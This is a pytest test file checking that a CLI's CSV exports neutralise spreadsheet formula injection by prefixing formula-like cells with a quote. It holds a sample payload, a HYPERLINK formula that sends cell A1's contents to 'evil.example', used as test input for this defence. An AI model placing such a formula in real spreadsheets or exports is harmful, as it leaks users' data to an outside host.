"""Every CSV the CLI writes keeps a spreadsheet from running a cell: a channel tag or a custom
code that starts like a formula is written as text (a leading ')."""

from __future__ import annotations

import csv
import io

from bff.ground.csv_out import safe_cell
from tests.catalogue.samples import coupon
from tests.story import bearer

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_formula_starts_are_neutralised_and_other_cells_kept():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("poster") == "poster" and safe_cell(-5) == -5 and safe_cell(None) is None
    assert safe_cell("a=1") == "a=1"


def test_a_channel_tag_reaches_stats_channels_as_text(client, story, runner, tmp_path):
    from bff.domain.channel_stats import today

    card_id = story.create_card(coupon("GIFT"))
    story.review(card_id)
    user = story.user()
    signed = client.post("/v1/cards/add-card", headers=bearer(story.login(user)),
                         json={"cards": [{"card_id": card_id, "outer_str": FORMULA}]})
    assert signed.status_code == 200, signed.get_json()
    story.sim("add-card", {"user": user["mp_openid"], "card_list": signed.get_json()["card_list"]})
    story.handle_events()
    day = today().isoformat()
    out = tmp_path / "channels.csv"
    res = runner.invoke(args=["stats", "channels", "--from", day, "--to", day, "-o", str(out)])
    assert res.exit_code == 0, res.output
    [row] = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert row["outer_str"] == "'" + FORMULA and row["received"] == "1"
    stdout = runner.invoke(args=["stats", "channels", "--from", day, "--to", day]).output
    assert "\n=" not in stdout and ",=" not in stdout


def test_an_import_report_writes_formula_like_codes_as_text(story, runner, tmp_path):
    card = story.deposit_card()
    codes = ["=1+1", "@SUM(A1)", "+86123", "-42", "PLAIN1"]
    src = tmp_path / "codes.txt"
    src.write_text("".join(c + "\n" for c in codes))
    report = tmp_path / "report.csv"
    res = runner.invoke(args=["codes", "import", card, str(src), "--report", str(report)])
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO(report.read_text(encoding="utf-8"))))
    assert [r["code"] for r in rows] == ["'=1+1", "'@SUM(A1)", "'+86123", "'-42", "PLAIN1"]
